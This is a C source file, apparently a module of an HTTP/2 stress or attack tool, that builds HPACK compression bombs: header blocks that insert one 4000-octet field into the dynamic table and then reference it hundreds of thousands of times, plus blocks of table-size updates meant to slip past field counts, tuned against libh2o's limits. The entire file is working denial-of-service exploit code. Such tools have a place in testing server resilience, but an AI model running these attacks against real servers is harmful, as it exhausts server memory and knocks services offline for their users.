/* SPDX-License-Identifier: Apache-2.0 */
/* A large field goes into HPACK's table once; each further octet of the header block is a reference
 * to it, and costs the server a whole header field. */
#include "attack.h"

#include <string.h>

#define FIELD_SIZE  4000          /* with its name and RFC 7541's 32 octets just within the table */
#define NEWEST      0xbe          /* indexed field 62: what came into the table last */
#define BLOCK_SIZE  (378u * 1000) /* a little under libh2o's limit for one block */
#define STREAMS_MAX 69            /* 26 MB */
#define WHOLE_MAX   16            /* whole requests under way */
#define SIZE_UPDATE 0x20          /* RFC 7541, 6.3: the table is to hold nothing */

/* 82: GET, 87: https, 84: /, 40: a new name, with incremental indexing. */
static size_t bomb(uint8_t *block)
{
    static const uint8_t head[] = {0x82, 0x87, 0x84, 0x40, 1, 'x', 0x7f};
    size_t size = sizeof(head);
    memcpy(block, head, size);
    for (unsigned rest = FIELD_SIZE - 127; rest > 0; rest >>= 7) { /* RFC 7541, 5.1 */
        block[size++] = (uint8_t)((rest & 127) | (rest > 127 ? 128 : 0));
    }
    memset(block + size, 'a', FIELD_SIZE);
    size += FIELD_SIZE;
    memset(block + size, NEWEST, BLOCK_SIZE - size);
    return BLOCK_SIZE;
}

static void put_bomb(client *c, unsigned flags)
{
    static uint8_t block[BLOCK_SIZE];
    static size_t size;
    if (size == 0) {
        size = bomb(block);
    }
    put_block(c, c->next_stream, flags, block, size);
    c->next_stream += 2;
    c->open_streams++;
}

static bool turn_held(client *c)
{
    put_bomb(c, END_HEADERS);
    return c->step + 1 < STREAMS_MAX;
}

static bool turn_whole(client *c)
{
    if (c->open_streams < WHOLE_MAX) {
        put_bomb(c, END_HEADERS | END_STREAM);
    }
    return true;
}

/* Instructions that make no field at all: a count of fields does not see them. */
static bool turn_updates(client *c)
{
    static uint8_t block[BLOCK_SIZE];
    memset(block, SIZE_UPDATE, sizeof(block));
    if (c->open_streams < WHOLE_MAX) {
        put_block(c, c->next_stream, END_HEADERS | END_STREAM, block, sizeof(block));
        c->next_stream += 2;
        c->open_streams++;
    }
    return true;
}

const attack hpack_bomb_held = {
    .name = "hpack-bomb-held",
    .help = "HPACK bomb, 26 MB of requests that never end",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_held,
};

const attack hpack_bomb = {
    .name = "hpack-bomb",
    .help = "HPACK bomb, whole requests",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_whole,
};

const attack hpack_updates = {
    .name = "hpack-updates",
    .help = "header blocks of changes of the table's size",
    .carriage = CARRY_H2,
    .connections = 1,
    .reconnects = true,
    .turn = turn_updates,
};
